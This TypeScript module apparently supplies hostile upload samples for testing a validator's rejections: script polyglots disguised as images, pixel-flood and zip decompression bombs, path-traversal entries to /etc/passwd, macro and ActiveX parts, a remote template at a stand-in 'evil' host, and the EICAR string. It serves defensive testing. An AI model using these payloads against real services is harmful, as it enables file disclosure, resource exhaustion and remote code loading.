import { crc32, deflateSync } from 'node:zlib';
import { noise } from './noise';
import * as files from './sample-files';
import { archive, type Part } from './workbook';

/** What it is, its declared type, its bytes, and the code by which it is refused. */
export type Hostile = [what: string, type: string, content: () => Buffer | Promise<Buffer>, code: string];

const [TYPE, DAMAGED, LARGE] = ['unsupported_media_type', 'unreadable_file', 'too_large'];
const eicar = ['X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR', '-STANDARD-ANTIVIRUS-', 'TEST-FILE!$H+H*'].join('');
const part = (content: Buffer, share: number): Buffer => content.subarray(0, Math.floor(content.length * share));
const html = '<!doctype html><script>alert(1)</script>';
const svg = '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>';

/** A PNG whose header promises a size that it does not have. */
function pngOf(width: number, height: number): Buffer {
  const copy = Buffer.from(files.png);
  copy.writeUInt32BE(width, 16);
  copy.writeUInt32BE(height, 20);
  return copy;
}

/** A GIF that is small on the wire and large in memory. */
function gifOf(width: number, height: number): Buffer {
  const copy = Buffer.from(files.gif);
  copy.writeUInt16LE(width, 6);
  copy.writeUInt16LE(height, 8);
  copy.writeUInt16LE(width, 32);
  copy.writeUInt16LE(height, 34);
  return copy;
}

const broken = (content: Buffer, at: number): Buffer =>
  Buffer.concat([content.subarray(0, at), noise(20), content.subarray(at + 20)]);

export const PICTURES: Hostile[] = [
  ['a script that begins like a GIF', 'image/gif', () => Buffer.from('GIF89a/*\x01\x02\x03*/=1;alert(1)//'), DAMAGED],
  ['a script that is a comment to others', 'image/gif', () => Buffer.from('GIF89a=1;/*' + html + '*/'), DAMAGED],
  ['a page by the name of a picture', 'image/jpeg', () => Buffer.from(html), TYPE],
  ['a page behind the mark of a JPEG', 'image/jpeg', () => jpegMark(html), DAMAGED],
  [
    'a page behind the mark of a PNG',
    'image/png',
    () => Buffer.concat([part(files.png, 0.2), Buffer.from(html)]),
    DAMAGED,
  ],
  ['a drawing with a script', 'image/svg+xml', () => Buffer.from(svg), TYPE],
  ['a drawing with a script, called PNG', 'image/png', () => Buffer.from(svg), TYPE],
  ['a drawing with a script, called WebP', 'image/webp', () => Buffer.from(svg), TYPE],
  ['81 megapixels in a few KB', 'image/png', megapixels, LARGE],
  ['40 megapixels of 16 bits, in passes', 'image/png', deepInPasses, LARGE],
  ['a PNG that promises 3.6 gigapixels', 'image/png', () => pngOf(60_000, 60_000), 'any'],
  ['a GIF of 49 megapixels', 'image/gif', () => gifOf(7_000, 7_000), LARGE],
  ['a GIF of 4 gigapixels', 'image/gif', () => gifOf(65_535, 65_535), LARGE],
  ['a PNG cut in half', 'image/png', () => part(files.png, 0.5), DAMAGED],
  ['a JPEG cut in half', 'image/jpeg', () => part(files.jpeg, 0.5), DAMAGED],
  ['a WebP cut in half', 'image/webp', () => part(files.webp, 0.5), DAMAGED],
  ['a GIF cut in half', 'image/gif', () => part(files.gif, 0.5), DAMAGED],
  ['a PNG with noise inside', 'image/png', () => broken(files.png, 60), DAMAGED],
  ['only the mark of a PNG', 'image/png', () => files.png.subarray(0, 8), DAMAGED],
  ['a PDF called PNG', 'image/png', () => files.pdf, TYPE],
  ['a bitmap of Windows', 'image/bmp', () => Buffer.from('BM' + '\0'.repeat(60)), TYPE],
  ['a TIFF called JPEG', 'image/jpeg', () => Buffer.from('49492a0008000000', 'hex'), TYPE],
  ['a picture of a newer phone', 'image/heic', () => Buffer.from('\0\0\0\x18ftypheic\0\0\0\0mif1heic'), TYPE],
  ['a program called PNG', 'image/png', () => Buffer.concat([Buffer.from('MZ'), noise(200)]), TYPE],
];

/** Small on the wire, 320 MB in memory, and unreadable before its last pass. */
function deepInPasses(): Buffer {
  const copy = Buffer.from(files.png);
  copy.writeUInt32BE(8_000, 16);
  copy.writeUInt32BE(4_990, 20);
  // Bits of a sample, four channels, interlaced.
  for (const [at, value] of [
    [24, 16],
    [25, 6],
    [28, 1],
  ] as const)
    copy[at] = value;
  copy.writeUInt32BE(crc32(copy.subarray(12, 29)), 29);
  return copy;
}

const jpegMark = (text: string): Buffer =>
  Buffer.concat([Buffer.from('ffd8ffe000104a46494600', 'hex'), Buffer.from(text)]);

/** 9,000 × 9,000 points of one bit. */
function megapixels(): Buffer {
  const rows = deflateSync(Buffer.alloc(9_000 * (1 + 9_000 / 8)));
  const head = Buffer.concat([Buffer.alloc(8), Buffer.from([1, 0, 0, 0, 0])]);
  head.writeUInt32BE(9_000, 0);
  head.writeUInt32BE(9_000, 4);
  const mark = files.png.subarray(0, 8);
  return Buffer.concat([mark, chunk('IHDR', head), chunk('IDAT', rows), chunk('IEND', Buffer.alloc(0))]);
}

function chunk(type: string, content: Buffer): Buffer {
  const framed = Buffer.concat([Buffer.alloc(4), Buffer.from(type), content, Buffer.alloc(4)]);
  framed.writeUInt32BE(content.length, 0);
  framed.writeUInt32BE(crc32(framed.subarray(4, -4)), framed.length - 4);
  return framed;
}

/** A box of an MP4. */
const box = (type: string, size: number, content = Buffer.alloc(0)): Buffer => {
  const head = Buffer.alloc(8);
  head.writeUInt32BE(size, 0);
  head.write(type, 4, 'latin1');
  return Buffer.concat([head, content]);
};
const ftyp = box('ftyp', 16, Buffer.from('isom\0\0\0\0', 'latin1'));

/** A film that says of its samples that there are four thousand million. */
function manySamples(): Buffer {
  const copy = Buffer.from(files.mp4);
  for (const table of ['stts', 'stsz']) {
    const at = copy.indexOf(table);
    copy.writeUInt32BE(0xffffffff, at + (table === 'stts' ? 12 : 12));
  }
  return copy;
}

export const RECORDINGS: Hostile[] = [
  ...[0.3, 0.6, 0.95].flatMap((share): Hostile[] => [
    [`a film of ${share} of an MP4`, 'video/mp4', () => part(files.mp4, share), DAMAGED],
    [`a film of ${share} of a WebM`, 'video/webm', () => part(files.webm, share), DAMAGED],
  ]),
  ['an MP4 without its last picture', 'video/mp4', () => files.mp4.subarray(0, -10), DAMAGED],
  ['an M4A cut short', 'audio/mp4', () => part(files.m4a, 0.8), DAMAGED],
  ['an Ogg cut short', 'audio/ogg', () => part(files.ogg, 0.8), DAMAGED],
  ['a WAV cut short', 'audio/wav', () => part(files.wav, 0.5), DAMAGED],
  ['an MP4 without anything in it', 'video/mp4', () => ftyp, DAMAGED],
  ['an MP4 of zeros', 'video/mp4', () => Buffer.concat([ftyp, Buffer.alloc(5_000)]), DAMAGED],
  ['an MP4 with a table of 4 GB', 'video/mp4', () => Buffer.concat([ftyp, box('moov', 0xffffffff)]), DAMAGED],
  [
    'an MP4 with a table of 17 MB',
    'video/mp4',
    () => Buffer.concat([ftyp, box('moov', 17 << 20, Buffer.alloc((17 << 20) - 8))]),
    DAMAGED,
  ],
  ['an MP4 with a box that is smaller than itself', 'video/mp4', () => Buffer.concat([ftyp, box('moov', 3)]), DAMAGED],
  ['an MP4 of four thousand million samples', 'video/mp4', manySamples, DAMAGED],
  ['a WebM without anything in it', 'video/webm', () => Buffer.from('1a45dfa3', 'hex'), DAMAGED],
  ['a WebM of noise', 'video/webm', () => Buffer.concat([Buffer.from('1a45dfa3', 'hex'), noise(2_000)]), DAMAGED],
  ['an MP3 of tags', 'audio/mpeg', () => Buffer.concat([Buffer.from('ID3'), Buffer.alloc(64)]), DAMAGED],
  ['a page by the name of a film', 'video/mp4', () => Buffer.from(html), TYPE],
  ['a program by the name of a film', 'video/mp4', () => Buffer.concat([Buffer.from('MZ'), noise(200)]), TYPE],
  ['an AVI', 'video/x-msvideo', () => Buffer.from('RIFF\0\0\0\0AVI LIST'), TYPE],
  ['a film of eleven minutes', 'video/webm', () => recordingOf(660, 'film'), 'recording_too_long'],
  ['a recording of eleven minutes', 'audio/mp4', () => recordingOf(660, 'sound'), 'recording_too_long'],
];

/** What old recorders write: frames of AAC and nothing around them. */
export async function bareAac(): Promise<Buffer> {
  const media = await import('mediabunny');
  const target = new media.BufferTarget();
  const output = new media.Output({ format: new media.AdtsOutputFormat(), target });
  const sound = new media.EncodedAudioPacketSource('aac');
  output.addAudioTrack(sound);
  await output.start();
  const aac = { codec: 'mp4a.40.2', numberOfChannels: 1, sampleRate: 44_100, description: new Uint8Array([0x12, 8]) };
  for (let i = 0; i < 4; i += 1) {
    const packet = new media.EncodedPacket(new Uint8Array(200), 'key', (i * 1024) / 44_100, 1024 / 44_100);
    await sound.add(packet, i === 0 ? { decoderConfig: aac } : undefined);
  }
  await output.finalize();
  return Buffer.from(target.buffer!);
}

/** A recording that lasts as long as wished and holds nothing but its first and last moment. */
export async function recordingOf(seconds: number, sort: 'film' | 'sound'): Promise<Buffer> {
  const media = await import('mediabunny');
  const target = new media.BufferTarget();
  const format = sort === 'film' ? new media.WebMOutputFormat() : new media.Mp4OutputFormat();
  const output = new media.Output({ format, target });
  const film = new media.EncodedVideoPacketSource('vp8');
  const sound = new media.EncodedAudioPacketSource('aac');
  if (sort === 'film') output.addVideoTrack(film);
  else output.addAudioTrack(sound);
  await output.start();
  for (const at of [0, seconds - 1]) {
    const packet = new media.EncodedPacket(new Uint8Array(8), 'key', at, 1);
    const aac = { codec: 'mp4a.40.2', numberOfChannels: 1, sampleRate: 44_100, description: new Uint8Array([0x12, 8]) };
    if (sort === 'film') await film.add(packet, { decoderConfig: { codec: 'vp8', codedWidth: 64, codedHeight: 48 } });
    else await sound.add(packet, { decoderConfig: aac });
  }
  await output.finalize();
  return Buffer.from(target.buffer!);
}

const { docxType, xlsxType } = files;
const word: Part[] = [
  { name: '[Content_Types].xml', content: '<Types/>' },
  { name: 'word/document.xml', content: '<w/>' },
];
export const docxOf = (...more: Part[]): Buffer => archive([...word, ...more]);
const inside =
  (name: string, content: () => string | Buffer = () => 'x'): (() => Buffer) =>
  () =>
    docxOf({ name, content: content() });
const spaces = (mebibytes: number): Buffer => Buffer.alloc(mebibytes * 1024 * 1024, ' ');

/** The entry of an archive that stands for a link of Unix. */
function linked(): Buffer {
  const bytes = docxOf({ name: 'word/link', content: '/etc/passwd' });
  const record = bytes.lastIndexOf(Buffer.from('word/link')) - 46;
  bytes.writeUInt8(3, record + 5);
  bytes.writeUInt32LE(0o120777 * 0x10000, record + 38);
  return bytes;
}

const manyParts = (): Buffer =>
  docxOf(...Array.from({ length: 2_100 }, (_, n) => ({ name: `word/p${n}.xml`, content: '' })));

const template =
  '<Relationships><Relationship Type="http://x/attachedTemplate" Target="http://evil/x.dotm" TargetMode="External"/></Relationships>';

export const DOCUMENTS: Hostile[] = [
  ['a document with macros', docxType, inside('word/vbaProject.bin'), TYPE],
  ['a document for macros by another name', docxType, macroType, TYPE],
  ['a workbook with old macros', xlsxType, () => files.xlsx({ name: 'xl/macrosheets/sheet1.xml' }), TYPE],
  ['a document with controls', docxType, inside('word/activeX/activeX1.bin'), TYPE],
  ['a document whose template is fetched', docxType, inside('word/_rels/settings.xml.rels', () => template), TYPE],
  ['an encrypted archive', docxType, () => files.docx({ name: 'word/a.xml', isEncrypted: true }), TYPE],
  ['an encrypted document of Office', docxType, () => Buffer.from('d0cf11e0a1b11ae1'.padEnd(1024, '0'), 'hex'), TYPE],
  ['a path up and out', docxType, inside('../../etc/passwd'), TYPE],
  ['a path up and out, as on Windows', docxType, inside('word\\..\\..\\win.ini'), TYPE],
  ['a path from the root', docxType, inside('/etc/passwd'), TYPE],
  ['a path from a drive', docxType, inside('C:/windows/win.ini'), TYPE],
  ['a link to another file', docxType, linked, TYPE],
  ['an archive inside', docxType, inside('word/a.zip', () => archive([{ name: 'x', content: 'x' }])), TYPE],
  [
    'an archive inside by another name',
    docxType,
    inside('word/a.bin', () => archive([{ name: 'x', content: 'x' }])),
    TYPE,
  ],
  ['a program inside', docxType, inside('word/embeddings/setup.exe'), TYPE],
  [
    'documents within documents',
    docxType,
    inside('word/a.docx', () => docxOf({ name: 'b.docx', content: docxOf() })),
    TYPE,
  ],
  ['a bomb of 150 MB', docxType, inside('word/a.xml', () => spaces(150)), TYPE],
  [
    'a bomb in a document inside',
    docxType,
    inside('word/a.docx', () => docxOf({ name: 'x.xml', content: spaces(20) })),
    TYPE,
  ],
  ['a bomb that lies about its size', xlsxType, () => lying(), TYPE],
  [
    'a bomb of 3 GiB by its own account',
    docxType,
    () => files.docx({ name: 'a.xml', unpackedBytes: 3 * 2 ** 30 }),
    TYPE,
  ],
  ['a document of thousands of parts', docxType, manyParts, TYPE],
  ['just an archive', docxType, () => archive([{ name: 'readme.txt', content: 'x' }]), TYPE],
  ['a workbook called a document', docxType, () => files.xlsx(), TYPE],
  ['a document cut short', docxType, () => part(docxOf(), 0.7), TYPE],
  ['an old document', 'application/msword', () => Buffer.from('d0cf11e0a1b11ae1', 'hex'), TYPE],
  ['a rich text called a document', docxType, () => Buffer.from('{\\rtf1 x}'), TYPE],
  ['a PDF cut short', 'application/pdf', () => Buffer.from('%PDF-1.7\n1 0 obj'), DAMAGED],
  ['a page called PDF', 'application/pdf', () => Buffer.from(html), TYPE],
  ['a text', 'text/plain', () => Buffer.from('说明'), TYPE],
  ['a page', 'text/html', () => Buffer.from(html), TYPE],
  ['a script', 'text/javascript', () => Buffer.from('alert(1)'), TYPE],
  ['a program', 'application/octet-stream', () => Buffer.concat([Buffer.from('MZ'), noise(200)]), TYPE],
  ['nothing', 'application/pdf', () => Buffer.alloc(0), 'invalid_input'],
];

export const VIRUSES: Hostile[] = [
  ['the test virus', 'application/pdf', () => Buffer.from(eicar), 'any'],
  ['the test virus in a PDF', 'application/pdf', () => Buffer.from(`%PDF-1.7\n${eicar}\n%%EOF`), 'malicious_file'],
  [
    'the test virus behind a picture',
    'image/png',
    () => Buffer.concat([files.png, Buffer.from(eicar)]),
    'malicious_file',
  ],
  ['the test virus far into a file', 'image/png', () => farInside(), 'malicious_file'],
  ['the test virus packed in a document', docxType, inside('word/a.xml', () => `<w>${eicar}</w>`), 'malicious_file'],
];

const farInside = (): Buffer => Buffer.concat([files.png, Buffer.alloc(65_500 - files.png.length), Buffer.from(eicar)]);

function macroType(): Buffer {
  const types = '<Types><Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>';
  return archive([{ name: '[Content_Types].xml', content: types }, word[1]!]);
}

const lying = (): Buffer =>
  archive([
    word[0]!,
    { name: 'xl/workbook.xml', content: '<x/>' },
    { name: 'xl/a.xml', content: spaces(20), declaredBytes: 100 },
  ]);
